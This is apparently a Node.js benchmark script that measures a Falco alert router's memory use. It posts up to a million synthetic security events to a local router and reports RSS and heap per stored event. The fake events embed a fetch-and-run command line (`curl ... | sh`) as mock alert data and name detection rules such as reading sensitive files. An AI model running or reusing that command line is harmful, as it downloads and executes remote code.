// Memory per retained event (issue 13): the built router with its default memory store (store.maxevents
// 100 000) and no output, N varied ~1 KB events posted on 50 connections, then — at rest (a few seconds
// without requests: the parse worker gives back its young generation after 2 s idle) and after a full
// garbage collection through the inspector — the RSS, the heap used above the empty router's, and that
// heap per event the store holds (asked from /api/v1/events/count) against the event's own JSON size.
// Target: < 300 MB RSS after 1 000 000 events, and retained bytes per event <= 1.5x its JSON.
//
//   node bench/memory.mjs [events=1000000] [connections=50]
//   node bench/memory.mjs 200000 50 --snapshot   also writes a heap snapshot (dist/bench-memory.heapsnapshot)
//   BENCH_NODE_FLAGS='--max-semi-space-size=16' node bench/memory.mjs   other Node flags for the router
import { spawn } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { Agent, request } from 'node:http';
import WebSocket from 'ws';
import { fmt, freePort, waitHttp } from './lib.mjs';
import { NODE_FLAGS } from '../tools/runtime-flags.mjs';

const EVENTS = Number(process.argv[2] ?? 1_000_000);
const CONNECTIONS = Number(process.argv[3] ?? 50);
const SNAPSHOT = process.argv.includes('--snapshot');
/** Quiet time before measuring: the router at rest, as a user would find it after a burst. */
const REST_MS = 5_000;
const FLAGS = process.env.BENCH_NODE_FLAGS?.split(' ').filter((f) => f !== '') ?? NODE_FLAGS;

/** A deterministic PRNG, so every run posts the same events. */
function rng(seed) {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = Math.imul(s ^ (s >>> 15), s | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32;
  };
}
const random = rng(13);
const pick = (xs) => xs[Math.floor(random() * xs.length)];
const hex = (n) => Array.from({ length: n }, () => Math.floor(random() * 16).toString(16)).join('');
const RULES = [
  'Terminal shell in container',
  'Write below etc',
  'Read sensitive file untrusted',
  'Outbound connection',
];
const PRIORITIES = ['Critical', 'Error', 'Warning', 'Notice'];
const CMDS = Array.from({ length: 50 }, (_, i) => `bash -c "curl -s http://10.0.${i}.1/x | sh"`);
const NODES = Array.from({ length: 20 }, (_, i) => `ip-10-0-${i}-17.ec2.internal`);
const PODS = Array.from({ length: 500 }, (_, i) => `checkout-${hex(5)}-${i}`);

/** One ~1 KB Falco event, as varied as a busy cluster's: pids, container ids, pods, times differ. */
function event() {
  const rule = pick(RULES);
  const pod = pick(PODS);
  const pid = 1000 + Math.floor(random() * 60000);
  const cid = hex(12);
  const cmd = pick(CMDS);
  const now = Date.now();
  const ns = `${now}${String(Math.floor(random() * 1e6)).padStart(6, '0')}`;
  return JSON.stringify({
    output: `${new Date(now).toISOString().slice(11, 23)}: ${pick(PRIORITIES)} ${rule} (user=root user_loginuid=-1 container_id=${cid} container_name=${pod} image=registry.example.com/shop/checkout:1.${pid % 40} shell=bash parent=runc cmdline=${cmd} pid=${pid} terminal=34816 k8s.ns=shop k8s.pod=${pod})`,
    priority: pick(PRIORITIES),
    rule,
    time: new Date(now).toISOString(),
    source: 'syscalls',
    hostname: pick(NODES),
    tags: ['container', 'shell', 'mitre_execution', 'T1059'],
    output_fields: {
      'container.id': cid,
      'container.image.repository': 'registry.example.com/shop/checkout',
      'container.image.tag': `1.${pid % 40}`,
      'container.name': pod,
      'evt.time': Number.MAX_SAFE_INTEGER, // replaced below by a 19-digit integer
      'evt.type': 'execve',
      'k8s.ns.name': 'shop',
      'k8s.pod.name': pod,
      'proc.cmdline': cmd,
      'proc.exepath': '/usr/bin/bash',
      'proc.name': 'bash',
      'proc.pid': pid,
      'proc.pname': 'runc',
      'proc.tty': 34816,
      'user.loginuid': -1,
      'user.name': 'root',
    },
  }).replace(String(Number.MAX_SAFE_INTEGER), ns);
}

function post(agent, port, body) {
  return new Promise((resolve, reject) => {
    const req = request(
      {
        host: '127.0.0.1',
        port,
        method: 'POST',
        path: '/',
        agent,
        headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) },
      },
      (res) => {
        res.resume();
        res.on('end', () => resolve(res.statusCode));
      },
    );
    req.on('error', reject);
    req.end(body);
  });
}

/** The router's inspector: full GC, then process.memoryUsage() from inside it. */
async function inspector(wsUrl) {
  const ws = new WebSocket(wsUrl);
  await new Promise((r, j) => (ws.once('open', r), ws.once('error', j)));
  let id = 0;
  const waiting = new Map();
  const chunks = [];
  ws.on('message', (data) => {
    const msg = JSON.parse(String(data));
    if (msg.method === 'HeapProfiler.addHeapSnapshotChunk') chunks.push(msg.params.chunk);
    if (msg.id !== undefined) waiting.get(msg.id)?.(msg);
  });
  const call = (method, params = {}) =>
    new Promise((resolve) => {
      const n = ++id;
      waiting.set(n, resolve);
      ws.send(JSON.stringify({ id: n, method, params }));
    });
  return {
    async memory() {
      for (let i = 0; i < 3; i++) await call('HeapProfiler.collectGarbage');
      const r = await call('Runtime.evaluate', { expression: 'JSON.stringify(process.memoryUsage())' });
      return JSON.parse(r.result.result.value);
    },
    async snapshot(file) {
      chunks.length = 0;
      await call('HeapProfiler.takeHeapSnapshot', { reportProgress: false });
      writeFileSync(file, chunks.join(''));
    },
    close: () => ws.close(),
  };
}

const port = await freePort();
const child = spawn(process.execPath, [...FLAGS, '--inspect=127.0.0.1:0', 'dist/apps/router/main.js'], {
  env: { PATH: process.env.PATH, LISTENADDRESS: '127.0.0.1', LISTENPORT: String(port), UI_ENABLED: 'false' },
  stdio: ['ignore', 'ignore', 'pipe'],
});
const wsUrl = await new Promise((resolve) => {
  let err = '';
  child.stderr.on('data', (c) => {
    err += c;
    const m = /ws:\/\/[^\s]+/.exec(err);
    if (m) resolve(m[0]);
  });
});
try {
  await waitHttp(`http://127.0.0.1:${port}/healthz`);
  const insp = await inspector(wsUrl);
  const base = await insp.memory();
  const agent = new Agent({ keepAlive: true, maxSockets: CONNECTIONS });
  let sent = 0;
  let refused = 0;
  let jsonBytes = 0;
  const started = Date.now();
  await Promise.all(
    Array.from({ length: CONNECTIONS }, async () => {
      while (sent < EVENTS) {
        sent++;
        const body = event();
        jsonBytes += body.length;
        if ((await post(agent, port, body)) !== 200) refused++;
      }
    }),
  );
  const seconds = (Date.now() - started) / 1000;
  agent.destroy();
  await new Promise((resolve) => setTimeout(resolve, REST_MS));
  const after = await insp.memory();
  const counted = await fetch(`http://127.0.0.1:${port}/api/v1/events/count`);
  const kept = (await counted.json()).statistics.all;
  // the stored JSON is the body plus the uuid the router adds (~47 bytes)
  const json = jsonBytes / EVENTS + 47;
  const perEvent = (after.heapUsed - base.heapUsed) / kept;
  console.log(
    `memory (node ${FLAGS.join(' ')}): ${fmt(EVENTS)} events posted in ${seconds.toFixed(0)} s (${fmt(EVENTS / seconds)}/s, ${refused} refused), ${fmt(kept)} kept\n` +
      `  RSS ${(after.rss / 2 ** 20).toFixed(0)} MB (empty router ${(base.rss / 2 ** 20).toFixed(0)} MB); heap used ${(after.heapUsed / 2 ** 20).toFixed(0)} MB` +
      ` (+${((after.heapUsed - base.heapUsed) / 2 ** 20).toFixed(0)} MB), external ${(after.external / 2 ** 20).toFixed(0)} MB\n` +
      `  retained per event ${fmt(perEvent)} bytes for ${fmt(json)} bytes of JSON: ${(perEvent / json).toFixed(2)}x (target <= 1.5x, RSS < 300 MB)`,
  );
  if (SNAPSHOT) {
    await insp.snapshot('dist/bench-memory.heapsnapshot');
    console.log('  heap snapshot: dist/bench-memory.heapsnapshot');
  }
  insp.close();
} finally {
  child.kill('SIGKILL');
}
